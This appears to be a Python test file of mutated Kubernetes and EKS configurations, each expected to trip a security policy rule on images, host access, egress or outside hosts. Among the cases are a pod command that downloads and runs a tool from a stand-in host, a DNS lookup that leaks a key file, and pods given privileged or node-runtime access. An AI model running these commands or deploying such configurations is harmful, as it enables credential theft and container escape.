"""Pods and what they are told: images, hosts, proxies, flags of controllers."""

import base64
import json
from typing import Any

from tests.policies.mutations.kubernetes import an_object
from tests.policies.mutations.mutation import Change, add, edit, opens
from tests.policies.mutations.stacks import ACCOUNT, FOREIGN, REGION
from tests.policies.mutations.told import DIGEST

OWN = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com"
IMAGE = f"{OWN}/app{DIGEST}"
ADD_ON = "aws:eks/addon:Addon"


def pod(*more: dict[str, Any], kind: str = "apps/v1:Deployment", **spec: Any) -> Change:
    """An object with a pod: of one sound container, or of these instead."""
    containers = list(more) or [{"name": "app", "image": IMAGE}]
    template = {"spec": {"containers": containers, **spec}}
    return an_object(f"kubernetes:{kind}", spec={"template": template})


def told(**container: Any) -> Change:
    return pod({"name": "app", "image": IMAGE, **container})


def annotated(key: str, value: str) -> Change:
    """Pods with an annotation that a controller acts on."""
    pods = {"containers": [{"name": "app", "image": IMAGE}]}
    template = {"metadata": {"annotations": {key: value}}, "spec": pods}
    return an_object("kubernetes:apps/v1:Deployment", spec={"template": template})


def image(reference: str) -> Change:
    return told(image=reference)


def variable(name: str, value: str) -> dict[str, str]:
    return {"name": name, "value": value}


_SERVICE = ("core/v1:Service", "service.beta.kubernetes.io/aws-load-balancer-")
_INGRESS = ("networking.k8s.io/v1:Ingress", "alb.ingress.kubernetes.io/")


def _noted(on: tuple[str, str], key: str, value: str) -> Change:
    """An internal load balancer, and one more annotation."""
    kind, prefix = on
    notes = {f"{prefix}scheme": "internal", f"{prefix}{key}": value}
    spec = {"type": "LoadBalancer"} if on is _SERVICE else {}
    return an_object(f"kubernetes:{kind}", metadata={"annotations": notes}, spec=spec)


def _add_on(values: dict[str, Any]) -> Change:
    given = {"clusterName": "x", "addonName": "adot", "configurationValues": json.dumps(values)}
    return add(ADD_ON, given)


FLUENT_BIT = "[OUTPUT]\n    Name  es\n    Host  logs.example\n    Port  443\n"
CONTROLLER = f"{OWN}/mirror/aws-load-balancer-controller{DIGEST}"
OFF = ["--enable-waf=false", "--enable-wafv2=false", "--enable-shield=false"]
HIDDEN = base64.b64encode(b"postgres://user:pw@db.example/app").decode()
CNI = [variable("ENABLE_SUBNET_DISCOVERY", "false")]
MUTATIONS = (
    opens("an image of a public registry", "CN-145", image(f"quay.io/org/app{DIGEST}")),
    opens("an image without a registry", "CN-145", image(f"nginx{DIGEST}")),
    opens(
        "an image of another account",
        "CN-145",
        image(f"{FOREIGN}.dkr.ecr.{REGION}.amazonaws.com/app{DIGEST}"),
    ),
    opens(
        "an image of another region",
        "CN-145",
        image(f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/app{DIGEST}"),
    ),
    opens(
        "an image of an init container",
        "CN-145",
        pod(initContainers=[{"image": f"ghcr.io/org/init{DIGEST}"}]),
    ),
    opens(
        "an image of a job that comes later",
        "CN-145",
        an_object(
            "kubernetes:batch/v1:CronJob",
            spec={
                "jobTemplate": {
                    "spec": {"template": {"spec": {"containers": [{"image": f"busybox{DIGEST}"}]}}}
                }
            },
        ),
    ),
    opens(
        "an image that an operator is told of",
        "CN-145",
        told(args=[f"--config-reloader-image=quay.io/org/reloader{DIGEST}"]),
    ),
    opens(
        "an image as a volume",
        "CN-145",
        pod(volumes=[{"name": "v", "image": {"reference": f"docker.io/org/data{DIGEST}"}}]),
    ),
    opens("an image by a tag", "CN-146", image(f"{OWN}/app:v1")),
    opens(
        "an aggregated API that nobody verifies",
        "CN-147",
        an_object(
            "kubernetes:apiregistration.k8s.io/v1:APIService",
            spec={"insecureSkipTLSVerify": True, "service": {"name": "x", "namespace": "y"}},
        ),
    ),
    opens("a pod on the node's network", "CN-148", pod(hostNetwork=True)),
    opens("a pod among the node's processes", "CN-148", pod(hostPID=True)),
    opens(
        "a pod with a capability that is as much as privileged",
        "CN-148",
        told(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
    ),
    opens(
        "a pod with its node's container runtime",
        "CN-148",
        pod(volumes=[{"name": "v", "hostPath": {"path": "/var/run/containerd/containerd.sock"}}]),
    ),
    opens("a pod with its node's shared memory", "CN-148", pod(hostIPC=True)),
    opens("a pod with all of /proc", "CN-148", told(securityContext={"procMount": "Unmasked"})),
    opens(
        "a volume of its node's container runtime, for whoever claims it",
        "CN-148",
        an_object(
            "kubernetes:core/v1:PersistentVolume",
            spec={"hostPath": {"path": "/run/containerd"}},
        ),
    ),
    opens("a privileged pod", "CN-148", told(securityContext={"privileged": True})),
    opens(
        "endpoints outside",
        "CN-149",
        an_object("kubernetes:core/v1:Endpoints", subsets=[{"addresses": [{"ip": "8.8.8.8"}]}]),
    ),
    opens(
        "a network policy that lets everything out",
        "CN-149",
        an_object(
            "kubernetes:networking.k8s.io/v1:NetworkPolicy",
            spec={"egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]},
        ),
    ),
    opens(
        "a network policy that lets pods at the node's credentials",
        "CN-149",
        an_object(
            "kubernetes:networking.k8s.io/v1:NetworkPolicy",
            spec={"egress": [{"to": [{"ipBlock": {"cidr": "169.254.169.254/32"}}]}]},
        ),
    ),
    opens(
        "a pod that is told of a host outside",
        "CN-200",
        told(env=[variable("ENDPOINT", "https://collector.example/v1")]),
    ),
    opens(
        "a pod that fetches from outside",
        "CN-200",
        told(command=["sh", "-c", "wget -q x.example/tool && ./tool"]),
    ),
    opens(
        "a probe that asks a host outside",
        "CN-200",
        told(livenessProbe={"httpGet": {"host": "probe.example", "port": 443}}),
    ),
    opens(
        "a hook that tells a host outside",
        "CN-200",
        told(lifecycle={"postStart": {"httpGet": {"host": "8.8.8.8", "port": 80}}}),
    ),
    opens(
        "a probe that runs a question to a host outside",
        "CN-200",
        told(livenessProbe={"exec": {"command": ["curl", "-s", "https://probe.example"]}}),
    ),
    opens(
        "a pod that is told of a host outside by its name alone",
        "CN-200",
        told(env=[variable("SMTP_HOST", "smtp.example.com")]),
    ),
    opens(
        "a pod that is told of a server outside by an option",
        "CN-200",
        told(args=["--log-server", "logs.example.com"]),
    ),
    opens(
        "a pod whose injected agent asks a host outside",
        "CN-200",
        annotated("vault.hashicorp.com/service", "https://vault.example"),
    ),
    opens(
        "a pod whose injected agent is an image of a public registry",
        "CN-145",
        annotated("sidecar.istio.io/proxyImage", f"docker.io/istio/proxyv2{DIGEST}"),
    ),
    opens(
        "a volume whose options lead outside",
        "CN-200",
        an_object(
            "kubernetes:core/v1:PersistentVolume",
            spec={"nfs": {"server": "10.0.0.9", "path": "/"}, "mountOptions": ["addr=8.8.8.8"]},
        ),
    ),
    opens(
        "a pod with a name server outside",
        "CN-200",
        pod(dnsPolicy="None", dnsConfig={"nameservers": ["8.8.8.8"]}),
    ),
    opens(
        "a pod with an address outside under a name of its own",
        "CN-200",
        pod(hostAliases=[{"ip": "8.8.8.8", "hostnames": ["db.internal"]}]),
    ),
    opens(
        "a pod with a volume outside",
        "CN-200",
        pod(volumes=[{"name": "v", "nfs": {"server": "nfs.example", "path": "/"}}]),
    ),
    opens(
        "a pod with a volume of a repository outside",
        "CN-200",
        pod(volumes=[{"name": "v", "gitRepo": {"repository": "git@git.example:team/x.git"}}]),
    ),
    opens(
        "a pod whose names are asked under a domain outside",
        "CN-200",
        pod(dnsConfig={"searches": ["collector.example"]}),
    ),
    opens(
        "a volume on a target outside",
        "CN-200",
        an_object(
            "kubernetes:core/v1:PersistentVolume",
            spec={"iscsi": {"targetPortal": "8.8.8.8:3260", "iqn": "iqn.2026-11.example:v"}},
        ),
    ),
    opens(
        "volumes of a class whose server is outside",
        "CN-200",
        an_object(
            "kubernetes:storage.k8s.io/v1:StorageClass",
            provisioner="nfs.csi.k8s.io",
            parameters={"server": "nfs.example", "share": "/"},
        ),
    ),
    opens(
        "a pod that is told of a host outside with its port",
        "CN-200",
        told(env=[variable("BROKER", "broker.example.com:9092")]),
    ),
    opens(
        "a ServiceAccount with a foreign role",
        "CN-074",
        an_object(
            "kubernetes:core/v1:ServiceAccount",
            metadata={
                "annotations": {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{FOREIGN}:role/app"}
            },
        ),
    ),
    opens(
        "an Ingress that asks an issuer outside",
        "CN-178 CN-200",
        an_object(
            "kubernetes:networking.k8s.io/v1:Ingress",
            metadata={
                "annotations": {
                    "alb.ingress.kubernetes.io/scheme": "internal",
                    "alb.ingress.kubernetes.io/auth-idp-oidc": '{"issuer":"https://id.example"}',
                }
            },
        ),
    ),
    opens(
        "an add-on that sends what it measures outside",
        "CN-200",
        _add_on({"exporters": {"otlp": {"endpoint": "https://x.example:4317"}}}),
    ),
    opens(
        "an add-on with a proxy outside",
        "CN-209",
        _add_on(
            {"extraEnv": [variable("HTTPS_PROXY", "http://x.example"), variable("NO_PROXY", "*")]}
        ),
    ),
    opens("an Ingress that asks a user pool", "CN-178", _noted(_INGRESS, "auth-type", "cognito")),
    opens(
        "a rule of a Gateway that fetches keys of tokens outside",
        "CN-178 CN-200",
        an_object(
            "kubernetes:gateway.k8s.aws/v1beta1:ListenerRuleConfiguration",
            spec={
                "actions": [
                    {
                        "type": "jwt-validation",
                        "jwtValidationConfig": {"jwksEndpoint": "https://x.example/keys"},
                    }
                ]
            },
        ),
    ),
    opens(
        "a Service with a load balancer of both families",
        "CN-111",
        _noted(_SERVICE, "ip-address-type", "dualstack"),
    ),
    opens(
        "a Service with an Elastic IP",
        "CN-112",
        _noted(_SERVICE, "eip-allocations", "eipalloc-0a1b2c3d4e5f60718"),
        "CN-004",
    ),
    opens(
        "a Service whose load balancer logs to a bucket of others",
        "CN-004",
        _noted(_SERVICE, "attributes", "access_logs.s3.enabled=true,access_logs.s3.bucket=x"),
    ),
    opens(
        "an Ingress whose load balancer has another in front that faces the internet",
        "CN-142",
        _noted(_INGRESS, "frontend-nlb-scheme", "internet-facing"),
    ),
    opens(
        "an Ingress that faces the internet by annotations of another prefix",
        "CN-142",
        an_object(
            f"kubernetes:{_INGRESS[0]}",
            metadata={
                "annotations": {
                    f"{_INGRESS[1]}scheme": "internal",
                    "lb.example/scheme": "internet-facing",
                }
            },
        ),
    ),
    opens(
        "a load balancer controller that takes annotations of another prefix",
        "CN-142",
        pod({"image": CONTROLLER, "args": [*OFF, "--annotations-prefix=lb.example"]}),
    ),
    opens(
        "an add-on with an image of a public registry",
        "CN-145",
        _add_on({"manager": {"image": f"public.ecr.aws/org/manager{DIGEST}"}}),
    ),
    opens(
        "an agent that sends logs to a host outside",
        "CN-217",
        an_object(
            "kubernetes:core/v1:ConfigMap",
            metadata={"name": "agent"},
            data={"fluent-bit.conf": FLUENT_BIT},
        ),
    ),
    opens(
        "a load balancer controller that asks Shield",
        "CN-203",
        pod({"image": CONTROLLER, "args": OFF[:2]}),
    ),
    opens(
        "Karpenter with prices of the internet",
        "CN-203",
        pod({"name": "controller", "image": f"{OWN}/karpenter/controller{DIGEST}"}),
    ),
    opens(
        "an autoscaler that asks for types",
        "CN-203",
        pod({"image": f"{OWN}/cluster-autoscaler{DIGEST}", "args": ["--cloud-provider=aws"]}),
    ),
    opens(
        "pods in any subnet that is tagged",
        "CN-204",
        edit(ADD_ON, "configurationValues", None, lambda n: n.resource.name == "vpc-cni"),
    ),
    opens(
        "pods with IPv6 egress",
        "CN-204",
        pod(
            {
                "name": "aws-node",
                "image": IMAGE,
                "env": [*CNI, variable("ENABLE_V6_EGRESS", "true")],
            },
            kind="apps/v1:DaemonSet",
        ),
    ),
    opens(
        "a Gateway of VPC Lattice",
        "CN-205",
        an_object(
            "kubernetes:gateway.networking.k8s.io/v1:GatewayClass",
            spec={"controllerName": "application-networking.k8s.aws/gateway-api-controller"},
        ),
    ),
    opens(
        "settings of a program that name a host outside",
        "CN-217",
        an_object(
            "kubernetes:core/v1:ConfigMap",
            metadata={"name": "app"},
            data={"app.yaml": "collector:\n  endpoint: https://collector.example\n"},
        ),
    ),
    opens(
        "settings of a program that name a host outside without a scheme",
        "CN-217",
        an_object(
            "kubernetes:core/v1:ConfigMap",
            metadata={"name": "app"},
            data={"otel.yaml": "exporters: {otlp: {endpoint: 'x.example.com:4317'}}\n"},
        ),
    ),
    opens(
        "a pod that puts what it knows into a name",
        "CN-200",
        told(command=["sh", "-c", "nslookup $(cat /etc/key).x.example"]),
    ),
    opens(
        "a Secret that names a host outside",
        "CN-217",
        an_object("kubernetes:core/v1:Secret", data={"url": HIDDEN}),
    ),
    opens(
        "a proxy of pods outside",
        "CN-209",
        told(
            env=[
                variable("HTTPS_PROXY", "http://proxy.example:3128"),
                variable("NO_PROXY", "169.254.170.23,.svc"),
            ]
        ),
    ),
    opens(
        "a proxy that sees the credentials of pods",
        "CN-209",
        told(env=[variable("HTTPS_PROXY", "http://proxy.internal:3128")]),
    ),
)
